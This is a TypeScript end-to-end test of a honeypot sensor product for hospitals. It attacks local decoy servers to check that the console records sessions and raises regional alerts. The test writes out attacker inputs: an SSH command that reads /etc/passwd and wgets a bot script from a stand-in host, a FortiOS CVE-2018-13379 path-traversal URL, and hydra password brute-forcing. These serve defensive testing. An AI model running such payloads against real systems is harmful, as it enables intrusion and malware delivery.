/**
 * Decoy servers end to end: two facilities each run a real `mamori-sensor` (enrolled with the CLI,
 * configured from the console's API, listening on loopback ports chosen now), real clients attack
 * them — OpenSSH, curl, smbclient, dcmtk's echoscu, an HL7 sender, hydra and nmap — and the console
 * in Chromium shows the sessions, the replayed SSH commands and the regional alert raised because
 * one source touched both facilities' sensors. nmap's service report goes to the test output and
 * e2e/screenshots/sensor-nmap.txt.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, execFile, spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import type { Alert, Sensor, SensorSession, SensorSessionDetail } from '@mamori/contracts';
import type { Browser, Page } from 'playwright-core';
import { api, launch, newPage, SHOTS, setUpFirstAdmin, shot } from './browser.ts';
import { freePort, type Platform, startPlatform } from './platform.ts';

const SENSOR = path.resolve(import.meta.dirname, '../apps/sensor/src/main.ts');
const run = promisify(execFile);
const ADMIN = { name: '高橋 真理', email: 'soc@tohoku-net.example.jp', password: 'hagi-no-tsuki-sendai-2026' };

type Running = { agentId: string; facilityId: string; dir: string; child: ChildProcess; ports: Record<string, number> };

/** Resolves once something accepts TCP connections on `port`. */
async function listening(port: number, ms = 30_000): Promise<void> {
  const deadline = Date.now() + ms;
  for (;;) {
    const ok = await new Promise<boolean>((resolve) => {
      const s = net.connect({ host: '127.0.0.1', port }, () => {
        s.destroy();
        resolve(true);
      });
      s.on('error', () => resolve(false));
    });
    if (ok) return;
    if (Date.now() > deadline) throw new Error(`nothing listens on ${port}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** TCP connections of a process (from /proc: its socket inodes matched in /proc/net/tcp{,6}). */
function tcpOf(pid: number): { local: number; remote: number; state: string }[] {
  const inodes = new Set<string>();
  for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
    const link = (() => {
      try {
        return fs.readlinkSync(`/proc/${pid}/fd/${fd}`);
      } catch {
        return '';
      }
    })();
    const m = /^socket:\[(\d+)\]$/.exec(link);
    if (m) inodes.add(m[1] as string);
  }
  const out: { local: number; remote: number; state: string }[] = [];
  for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
    for (const line of fs.readFileSync(file, 'utf8').split('\n').slice(1)) {
      const f = line.trim().split(/\s+/);
      if (f.length < 10 || !inodes.has(f[9] as string)) continue;
      const port = (a: string) => Number.parseInt(a.split(':')[1] as string, 16);
      out.push({ local: port(f[1] as string), remote: port(f[2] as string), state: f[3] as string });
    }
  }
  return out;
}

/** Waits until `check` returns a value (not undefined), polling. */
async function eventually<T>(what: string, check: () => Promise<T | undefined>, ms = 30_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await check();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 300));
  }
}

describe('decoy servers end to end', () => {
  let platform: Platform;
  let browser: Browser;
  let page: Page;
  const problems: string[] = [];
  const sensors: Running[] = [];

  before(async () => {
    platform = await startPlatform({ MAMORI_AGENT_HEARTBEAT_SECONDS: '5' });
    browser = await launch();
    ({ page } = await newPage(browser, problems));
    await setUpFirstAdmin(page, platform.setupUrl, ADMIN);
  });
  after(async () => {
    for (const s of sensors) s.child.kill('SIGTERM');
    await Promise.all(
      sensors.map((s) => new Promise((r) => (s.child.exitCode !== null ? r(null) : s.child.on('exit', r)))),
    );
    for (const s of sensors) fs.rmSync(s.dir, { recursive: true, force: true });
    await browser?.close();
    await platform?.stop();
  });

  /** Enrols a sensor with the real CLI, configures it through the API, runs it, waits for its ports. */
  async function startSensor(facilityName: string, kinds: string[]): Promise<Running> {
    const facility = await api<{ id: string }>(page, 'POST', '/api/facilities', {
      name: facilityName,
      type: 'hospital_medium',
      prefecture: '04',
      contact: { name: '情報システム室', phone: '022-000-0000' },
    });
    assert.equal(facility.status, 201);
    const token = await api<{ token: string }>(page, 'POST', '/api/enrolment-tokens', {
      facilityId: facility.json.id,
      ttlMinutes: 10,
    });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-e2e-sensor-'));
    const ca = path.join(platform.dataDir, 'pki', 'ca.crt');
    const enrolled = await run(process.execPath, [
      SENSOR,
      'enroll',
      '--server',
      platform.url,
      '--token',
      token.json.token,
      '--ca',
      ca,
      '--dir',
      dir,
    ]);
    const agentId = /enrolled as agent (\S+)/.exec(enrolled.stdout)?.[1] ?? '';
    assert.ok(agentId, enrolled.stdout);
    const ports: Record<string, number> = {};
    for (const k of kinds) ports[k] = await freePort();
    const config = await api<Sensor>(page, 'PUT', `/api/sensors/${agentId}/config`, {
      bind: '127.0.0.1',
      personas: kinds.map((kind) => ({ kind, port: ports[kind] })),
      acceptedLogins: [{ username: 'admin', password: 'admin' }],
    });
    assert.equal(config.status, 200, JSON.stringify(config.json));
    const child = spawn(process.execPath, [SENSOR, 'run', '--dir', dir], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout?.on('data', (d) => (out += d));
    child.stderr?.on('data', (d) => (out += d));
    const s = { agentId, facilityId: facility.json.id, dir, child, ports };
    sensors.push(s);
    try {
      for (const port of Object.values(ports)) await listening(port);
    } catch (err) {
      throw new Error(`${(err as Error).message}; sensor said:\n${out}`);
    }
    return s;
  }

  let a: Running;
  let b: Running;
  let nmapReport = '';

  it('starts two enrolled sensors with the personas set in the console', async () => {
    a = await startSensor('青葉台総合病院', [
      'ssh',
      'telnet',
      'emr_web',
      'sslvpn_forti',
      'smb',
      'rdp',
      'dicom',
      'hl7',
      'ftp',
    ]);
    b = await startSensor('泉中央クリニック', ['sslvpn_forti', 'ssh']);
    const list = await eventually('both sensors listed as running', async () => {
      const r = await api<{ items: Sensor[] }>(page, 'GET', '/api/sensors');
      return r.json.items.length === 2 && r.json.items.every((s) => s.status === 'online') ? r.json.items : undefined;
    });
    assert.deepEqual(
      list.flatMap((s) => s.problems),
      [],
    );
  });

  it('records what real clients do', async () => {
    const p = a.ports as Record<string, number>;
    // OpenSSH with a password (askpass), logging in and running commands in the fake shell.
    const askpass = path.join(a.dir, 'askpass.sh');
    fs.writeFileSync(askpass, '#!/bin/sh\necho admin\n', { mode: 0o700 });
    const ssh = await run(
      'ssh',
      [
        '-p',
        String(p.ssh),
        '-o',
        'StrictHostKeyChecking=no',
        '-o',
        'UserKnownHostsFile=/dev/null',
        '-o',
        'PreferredAuthentications=password,keyboard-interactive',
        '-o',
        'ConnectTimeout=10',
        'admin@127.0.0.1',
        'uname -a; cat /etc/passwd; wget http://198.51.100.23/bot.sh',
      ],
      { env: { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' }, timeout: 30_000 },
    ).catch((err: { stdout?: string; stderr?: string }) => err);
    assert.match(String(ssh.stdout), /Linux/, `ssh printed: ${ssh.stdout} ${ssh.stderr}`);
    // The EMR login page with a wrong password, and the FortiOS path traversal (CVE-2018-13379).
    const base = `https://127.0.0.1:${p.emr_web}`;
    await run('curl', ['-sk', '-o', '/dev/null', base]);
    await run('curl', ['-sk', '-o', '/dev/null', '-d', 'userid=doctor01&password=Spring2026', `${base}/login`]).catch(
      () => {},
    );
    await run('curl', [
      '-sk',
      '--path-as-is',
      '-o',
      '/dev/null',
      `https://127.0.0.1:${p.sslvpn_forti}/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`,
    ]);
    // SMB: smbclient's NTLM login is captured (and refused).
    await run('smbclient', [
      '-L',
      '//127.0.0.1',
      '-p',
      String(p.smb),
      '-U',
      'AOBA\\nurse01%Kango2026',
      '-m',
      'SMB3',
    ]).catch(() => {});
    // DICOM echo with our AE titles.
    await run('echoscu', ['-aet', 'INTRUDER', '-aec', 'PACS01', '127.0.0.1', String(p.dicom)]);
    // HL7 over MLLP.
    await new Promise<void>((resolve, reject) => {
      const s = net.connect({ host: '127.0.0.1', port: p.hl7 as number }, () => {
        s.write(
          `\x0bMSH|^~\\&|EVIL|X|RIS|AOBA|20261124120000||ADT^A01|MSG0001|P|2.5\rPID|1||123456||山田^太郎\r\x1c\r`,
        );
      });
      s.on('data', () => {
        s.destroy();
        resolve();
      });
      s.on('error', reject);
    });
    // hydra against the SSH persona: every attempt is recorded.
    const users = path.join(a.dir, 'users.txt');
    const words = path.join(a.dir, 'words.txt');
    fs.writeFileSync(users, 'root\nadmin\n');
    fs.writeFileSync(words, ['123456', 'password', 'qwerty', 'letmein', 'admin'].join('\n'));
    const hydra = await run(
      'hydra',
      ['-L', users, '-P', words, '-t', '4', '-I', '-s', String(p.ssh), '127.0.0.1', 'ssh'],
      {
        timeout: 60_000,
      },
    ).catch((err: { stdout?: string }) => err);
    assert.match(String(hydra.stdout), /login: admin\s+password: admin/, String(hydra.stdout));
    // nmap's service detection, recorded for BENCHMARKS.md.
    const nmap = await run('nmap', ['-sV', '-Pn', '--version-light', '-p', Object.values(p).join(','), '127.0.0.1'], {
      timeout: 180_000,
    });
    nmapReport = nmap.stdout;
    fs.mkdirSync(SHOTS, { recursive: true });
    fs.writeFileSync(path.join(SHOTS, 'sensor-nmap.txt'), nmapReport);
    for (const [kind, port] of Object.entries(p)) {
      const line = nmapReport.split('\n').find((l) => l.startsWith(`${port}/tcp`));
      console.log(`nmap ${kind}: ${line ?? '(no line)'}`);
      assert.match(line ?? '', /open/, `nmap saw ${kind} open`);
    }
    // The sensor made no connection of its own but to the platform: every established socket is
    // either an attacker's (on a persona port) or its mutual-TLS link to the platform.
    const platformPort = Number(new URL(platform.url).port);
    const own = new Set(Object.values(p));
    const conns = tcpOf(a.child.pid as number).filter((c) => c.state === '01');
    const stray = conns.filter((c) => !own.has(c.local) && c.remote !== platformPort);
    assert.deepEqual(stray, [], `connections the sensor opened: ${JSON.stringify(stray)}`);
    // The same source now touches the second facility's sensor.
    await run('curl', ['-sk', '-o', '/dev/null', `https://127.0.0.1:${b.ports.sslvpn_forti}/remote/login?lang=ja`]);
  });

  let sshSession: SensorSessionDetail;

  it('shows the sessions, the replayable commands and the credentials through the API', async () => {
    const sessions = await eventually('the SSH session with its commands', async () => {
      const r = await api<{ items: SensorSession[] }>(
        page,
        'GET',
        `/api/sensors/sessions?agentId=${a.agentId}&persona=ssh&limit=200`,
      );
      return r.json.items.find((s) => s.commands >= 1 && s.endedAt) ? r.json.items : undefined;
    });
    const withCommands = sessions.find((s) => s.commands >= 1) as SensorSession;
    assert.equal(withCommands.stage, 'command');
    sshSession = (await api<SensorSessionDetail>(page, 'GET', `/api/sensors/sessions/${withCommands.id}`)).json;
    const commands = sshSession.interactions.filter((i) => i.interaction === 'command').map((i) => i.command ?? '');
    assert.ok(
      commands.some((c) => c.includes('uname -a')),
      `commands: ${commands.join(' | ')}`,
    );
    const download = sshSession.interactions.find((i) => i.interaction === 'download');
    assert.equal(download?.url, 'http://198.51.100.23/bot.sh');
    // hydra: 2 users x 5 passwords (it stops trying a user once found); every attempt recorded.
    const creds = await eventually('hydra attempts', async () => {
      const r = await api<{ items: { username: string; password: string; attempts: number; accepted: boolean }[] }>(
        page,
        'GET',
        `/api/sensors/credentials?facilityId=${a.facilityId}&limit=200`,
      );
      return r.json.items.some((c) => c.username === 'root' && c.password === 'letmein') ? r.json.items : undefined;
    });
    for (const w of ['123456', 'password', 'qwerty', 'letmein', 'admin'])
      assert.ok(
        creds.some((c) => c.username === 'root' && c.password === w),
        `root/${w} recorded`,
      );
    assert.ok(creds.some((c) => c.username === 'admin' && c.password === 'admin' && c.accepted));
    const all = await api<{ items: SensorSession[] }>(
      page,
      'GET',
      `/api/sensors/sessions?agentId=${a.agentId}&limit=500`,
    );
    const personas = new Set(all.json.items.map((s) => s.persona));
    for (const k of ['ssh', 'emr_web', 'sslvpn_forti', 'smb', 'dicom', 'hl7'])
      assert.ok(personas.has(k as never), `a ${k} session is recorded`);
  });

  it('raises the regional alert in both facilities', async () => {
    const regional = await eventually('regional alerts', async () => {
      const r = await api<{ items: Alert[] }>(page, 'GET', '/api/alerts?source=sensor&limit=200');
      const hits = r.json.items.filter((x) => x.kind === 'sensor.regional');
      return hits.length >= 2 ? hits : undefined;
    });
    assert.deepEqual(new Set(regional.map((x) => x.facilityId)), new Set([a.facilityId, b.facilityId]));
    const exploit = await api<{ items: Alert[] }>(page, 'GET', `/api/alerts?facilityId=${a.facilityId}&source=sensor`);
    const top = exploit.json.items.find((x) => x.kind !== 'sensor.regional');
    assert.equal(top?.severity, 'critical', 'commands in the fake shell make the attacker alert critical');
  });

  it('shows it all in the console', async () => {
    await page.goto(`${platform.url}/sensors`);
    await page.getByText('青葉台総合病院').first().waitFor();
    await shot(page, 'sensors-overview');
    await page.goto(`${platform.url}/sensors/sessions/${sshSession.id}`);
    await page.getByText('uname -a').first().waitFor();
    await shot(page, 'sensors-session-replay');
    await page.goto(`${platform.url}/alerts`);
    await page.getByText('施設のおとりサーバに接続しています').first().waitFor();
    await shot(page, 'sensors-regional-alert');
    assert.deepEqual(problems, []);
  });
});
